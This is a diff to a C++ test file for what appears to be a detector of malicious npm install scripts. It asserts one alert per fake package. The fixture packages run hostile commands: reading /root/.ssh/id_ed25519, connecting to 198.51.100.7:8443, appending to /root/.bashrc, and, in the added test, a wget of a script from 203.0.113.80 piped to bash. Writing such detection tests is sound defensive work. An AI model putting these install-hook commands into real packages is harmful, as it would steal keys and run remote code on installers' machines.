@@ -77,15 +77,20 @@ TEST_F(DE15, EachPackageIsOneAlertWithItsNameAndManager) {
   add_package("e-all",
               "cat /root/.ssh/id_ed25519 >/dev/null; contact tcp 198.51.100.7 8443; "
               "echo x >>/root/.bashrc; cat /root/.ssh/id_ed25519 >/dev/null");
+  // From a registry, so that only running it tells.
+  shell("mkdir /src/www && echo exit >/src/www/x.sh && httpd -p 203.0.113.80:8099 -h /src/www");
+  run(*container_, {"dns", "ask", "udp", "registry.npmjs.org"});
+  add_package("f-fetches", "wget -q -O x.sh http://203.0.113.80:8099/x.sh && /usr/bin/bash x.sh");
   npm("install");
   const auto alerts = told();
-  ASSERT_EQ(alerts.size(), 5u) << Alert(alerts).dump(1);
+  ASSERT_EQ(alerts.size(), 6u) << Alert(alerts).dump(1);
   const std::vector<std::pair<std::string, std::string>> expected = {
       {"a-reads", "file /root/.ssh/id_ed25519"},
       {"b-writes", "file /root/.bashrc"},
       {"c-connects", "peer 198.51.100.7 port 8443"},
       {"d-drops", "program /src/app/node_modules/d-drops/x"},
-      {"e-all", "file /root/.ssh/id_ed25519"}};
+      {"e-all", "file /root/.ssh/id_ed25519"},
+      {"f-fetches", "by bash x.sh"}};
   for (size_t i = 0; i < expected.size(); ++i) {
     EXPECT_THAT(output(alerts[i]),
                 AllOf(HasSubstr("Script of the npm package " + expected[i].first + ":"),
